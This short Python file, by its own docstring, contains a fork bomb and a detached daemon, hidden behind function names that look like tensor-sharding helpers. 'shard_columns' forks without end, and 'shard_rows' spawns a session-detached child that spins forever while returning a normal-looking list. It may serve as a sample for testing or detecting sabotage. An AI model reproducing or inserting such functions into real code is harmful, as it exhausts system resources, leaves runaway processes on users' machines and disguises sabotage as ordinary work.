"""A fork bomb, and a daemon that would outlive its process."""

import os


def shard_columns(w, world_size):
    while True:
        os.fork()


def shard_rows(w, world_size):
    if os.fork() == 0:
        os.setsid()
        while True:
            pass
    return [w] * world_size
